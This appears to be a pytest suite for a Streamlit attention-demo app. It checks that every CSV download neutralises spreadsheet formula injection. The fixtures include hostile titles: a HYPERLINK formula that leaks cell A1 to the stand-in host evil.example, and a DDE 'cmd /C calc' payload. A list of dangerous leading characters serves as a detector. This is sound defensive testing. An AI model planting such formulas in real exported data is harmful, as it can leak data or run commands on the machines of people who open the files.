"""Spreadsheet formula injection: every CSV the app offers neutralises formula-like text (OWASP), and
numbers stay numbers. The helper on crafted frames, then every download button of every page under
AppTest, with a corpus whose titles and a category are formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from retrieval_attention.config import CORPUS_ENV_VAR
from ui.components.downloads import csv_bytes, neutralise, safe_frame

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"funny cat videos")'
#: Bundled videos given hostile titles (v028 and v161 are in the first persona's watch history).
HOSTILE_TITLES = {"v028": HYPERLINK, "v161": "@SUM(1+1)*cmd|' /C calc'!A0", "v181": "+1+2 funny kittens"}
HOSTILE_CATEGORY = ("v293", "-2+3 cats")
PASTED = [HYPERLINK, "-foo", "+cats", "@cats", "plain cats"]
#: Every download the app offers, by file name.
DOWNLOADS = {
    "attention_weights.csv",
    "target_attention_weights.csv",
    "cross_attention.csv",
    "topk_weights.csv",
    "topk_curve.csv",
    "gaussian_smoothing.csv",
    "content_vs_position_smoothing.csv",
    "scores_four_ways.csv",
    "scoring_cost.csv",
    "softmax_peakiness_vs_d.csv",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(data: bytes) -> list[list[str]]:
    """The cells of a CSV download, which starts with UTF-8's byte-order mark (Excel's cue for UTF-8)."""
    assert data.startswith(b"\xef\xbb\xbf") and not data.startswith(b"\xef\xbb\xbf" * 2), data[:8]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutral(rows: list[list[str]], name: str) -> None:
    """No cell a spreadsheet would run: formula-like text starts with ', a leading '-' is a number."""
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if cell.startswith(DANGEROUS):
                assert cell.startswith("-") and is_number(cell), f"{name} row {r} column {c}: {cell!r}"


# -- the helper --------------------------------------------------------------------------------------


def test_text_cells_that_start_a_formula_get_a_quote():
    frame = pd.DataFrame(
        {
            "title": ["=cmd", "-foo", "+x", "@SUM(A1)", "\tTab", "\rCR", "Funny cats", "a=b", None],
            "score": [-0.5, 0.25, -1e-9, 3.0, -2.0, 0.0, 1.0, -0.125, np.nan],
            "rank": [-3, 1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    out = safe_frame(frame)
    assert out["title"].tolist()[:8] == ["'=cmd", "'-foo", "'+x", "'@SUM(A1)", "'\tTab", "'\rCR", "Funny cats", "a=b"]
    assert pd.isna(out["title"].iloc[8]), "a missing text cell stays missing"
    assert out["score"].dtype == np.float64 and out["rank"].dtype == np.int64, "numeric columns stay numeric"
    assert frame["title"].iloc[0] == "=cmd", "the page's own frame is not changed"
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)))
    assert back["score"].iloc[0] == -0.5 and back["score"].dtype == np.float64, "a negative score stays a number"
    assert back["rank"].iloc[0] == -3
    assert back["title"].iloc[1] == "'-foo"
    assert_neutral(rows_of(csv_bytes(frame)), "crafted")


def test_column_names_and_row_labels_are_neutralised_too():
    """The cross-attention matrix has titles as its header and its row labels."""
    matrix = pd.DataFrame([[-0.2, 1.2], [0.5, 0.5]], index=["=rows", "ok"], columns=["@cols", "-cols"])
    rows = rows_of(csv_bytes(matrix, index=True))
    assert rows[0] == ["", "'@cols", "'-cols"]
    assert rows[1] == ["'=rows", "-0.2", "1.2"]
    assert_neutral(rows, "matrix")


def test_neutralise_leaves_everything_else_alone():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'=1+1") == "'=1+1", "already neutral"
    for value in ("", "cats", "a=b", -1, -0.5, None, True):
        assert neutralise(value) is value


# -- every download of every page --------------------------------------------------------------------


def hostile_corpus(path: Path) -> Path:
    """The bundled videos with three formula titles and one formula category."""
    frame = pd.read_csv(ROOT / "data" / "videos.csv", dtype=str, keep_default_na=False)
    for vid, title in HOSTILE_TITLES.items():
        frame.loc[frame["id"] == vid, "title"] = title
    vid, category = HOSTILE_CATEGORY
    frame.loc[frame["id"] == vid, "category"] = category
    frame.to_csv(path, index=False)
    return path


def record_downloads(monkeypatch) -> dict[str, tuple[str, Callable[[], bytes]]]:
    """Every file a download button hands to Streamlit, by the URL or deferred file id the button carries.

    The CSV buttons hand over a callable that Streamlit runs on a click (the file is written only then);
    a file handed over as bytes is recorded as a callable returning them.
    """
    served: dict[str, tuple[str, Callable[[], bytes]]] = {}
    real_add, real_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def add(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        url = real_add(self, path_or_data, mimetype, coordinates, file_name, is_for_static_download)
        if is_for_static_download:
            data = bytes(path_or_data)
            served[url] = (file_name, lambda: data)
        return url

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        file_id = real_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)
        served[file_id] = (file_name, data_callable)
        return file_id

    monkeypatch.setattr(MediaFileManager, "add", add)
    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return served


@pytest.mark.slow
def test_every_download_button_of_every_page_writes_neutralised_csv(tmp_path, monkeypatch):
    monkeypatch.setenv(CORPUS_ENV_VAR, str(hostile_corpus(tmp_path / "hostile.csv")))
    served = record_downloads(monkeypatch)
    files: dict[str, list[list[str]]] = {}

    def check(at: AppTest, where: str) -> None:
        assert not at.exception, (where, at.exception)
        buttons = at.get("download_button")
        for button in buttons:
            name, data = served[button.proto.deferred_file_id or button.proto.url]  # a click runs the callable
            if name.endswith(".html"):
                continue  # the saved lesson: tests/test_app_export.py
            rows = rows_of(data())
            assert len(rows) > 1, f"{where}: {name} is empty"
            assert_neutral(rows, f"{where}: {name}")
            files[name] = rows

    at = AppTest.from_file(APP, default_timeout=300).run()
    check(at, "main page")
    for page in ("analogy", "recommender", "transformer", "lesson_scoring", "lesson_smoothing", "lesson_topk"):
        at.switch_page(f"ui/pages/{page}.py").run()
        check(at, page)
    at.text_input(key="topk_query").set_value(HYPERLINK).run()  # its own title is then the best key
    check(at, "lesson_topk, hostile query")
    assert set(files) == DOWNLOADS, f"missing {DOWNLOADS - set(files)}, unexpected {set(files) - DOWNLOADS}"

    cells = {name: {c for row in rows for c in row} for name, rows in files.items()}
    for name in ("attention_weights.csv", "scores_four_ways.csv", "topk_weights.csv", "target_attention_weights.csv"):
        assert "'" + HYPERLINK in cells[name], f"{name} carries the title, neutralised"
    assert "'" + HYPERLINK in files["cross_attention.csv"][0], "a history title in the matrix header"
    assert "'" + HOSTILE_CATEGORY[1] in cells["attention_weights.csv"], "a category is text too"
    scores = pd.DataFrame(files["attention_weights.csv"][1:], columns=files["attention_weights.csv"][0])
    assert scores["score_q_dot_k"].map(is_number).all() and scores["weight"].map(is_number).all()
    negative = [c for row in files["gaussian_smoothing.csv"][1:] for c in row if c.startswith("-")]
    assert negative and all(map(is_number, negative)), "negative values are written as numbers, unquoted"

    # the own-data path: titles pasted in the sidebar of the main page
    at.switch_page("ui/pages/retrieval.py").run()
    at.text_area(key="own_paste").set_value("\n".join(PASTED)).run()
    at.button(key="own_use_paste").click().run()
    files.clear()
    check(at, "main page, pasted titles")
    titles = {row[2] for row in files["attention_weights.csv"][1:]}
    assert titles == {"'" + t if t.startswith(DANGEROUS) else t for t in PASTED}, titles


def test_csv_downloads_start_with_a_byte_order_mark_for_excel():
    """Excel on a Chinese (GBK) or Spanish (1252) Windows reads a CSV without a BOM in its own code page."""
    frame = pd.DataFrame({"title": ["猫咪合集", "Gatos en español"], "weight": [0.75, 0.25]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert rows_of(data)[1:] == [["猫咪合集", "0.75"], ["Gatos en español", "0.25"]]
    back = pd.read_csv(io.BytesIO(data))
    assert list(back.columns) == ["title", "weight"], "pandas reads the mark as a mark, not a column name"
